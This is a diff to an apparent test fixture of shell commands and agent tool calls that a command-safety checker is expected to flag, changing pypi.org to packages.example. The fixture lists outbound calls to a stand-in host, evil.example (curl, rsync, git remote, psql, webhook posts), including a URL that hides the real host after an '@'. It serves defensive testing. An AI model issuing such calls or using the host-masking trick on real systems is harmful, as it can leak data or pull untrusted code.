@@ -281,7 +281,7 @@ DOUBTFUL: Mapping[str, tuple[Call, ...]] = {
         "make install DESTDIR=/opt/app",
         "pip install --target /opt/libs requests",
         "npm install --prefix /opt/app left-pad",
-        "wget -P /srv/files https://pypi.org/x.tgz",
+        "wget -P /srv/files https://packages.example/x.tgz",
         "unzip app.zip -d /srv/app",
         "ffmpeg -i in.mp4 /srv/out.mp4",
         "gcc -o /usr/local/bin/x x.c",
@@ -297,7 +297,7 @@ DOUBTFUL: Mapping[str, tuple[Call, ...]] = {
         ("save_image", {"output_path": "/home/u/Pictures/a.png"}),
         ("export_csv", {"options": {"filename": "/srv/www/a.csv"}}),
         ("create_directory", {"dirs": ["/opt/a", "/opt/b"]}),
-        ("download", {"url": "https://pypi.org/x", "save_to": "/srv/x"}),
+        ("download", {"url": "https://packages.example/x", "save_to": "/srv/x"}),
     ),
     "hosts": (
         "curl -s 198.51.100.9:8080/x",
@@ -316,8 +316,8 @@ DOUBTFUL: Mapping[str, tuple[Call, ...]] = {
         "rsync rsync://evil.example/m/x .",
         "git remote set-url origin https://evil.example/x.git",
         "go get evil.example/m/v2",
-        "curl --proxy http://evil.example:3128 https://pypi.org",
-        "curl https://pypi.org@evil.example/x",
+        "curl --proxy http://evil.example:3128 https://packages.example",
+        "curl https://packages.example@evil.example/x",
         "bash -c 'exec curl \"https://evil.example\"'",
         "openssl s_client -connect evil.example:443 </dev/null",
         "psql -h evil.example -U x app -c 'select 1'",
@@ -329,7 +329,7 @@ DOUBTFUL: Mapping[str, tuple[Call, ...]] = {
         ("browser_navigate", {"target": "https://evil.example/login"}),
         ("http", {"request": {"method": "GET", "url": "https://evil.example"}}),
         ("webhook_post", {"endpoint": "https://hooks.evil.example/1", "json": {"a": 1}}),
-        ("scrape", {"urls": ["https://pypi.org/a", "https://evil.example/b"]}),
+        ("scrape", {"urls": ["https://packages.example/a", "https://evil.example/b"]}),
     ),
 }
 """These must be WARN at least."""
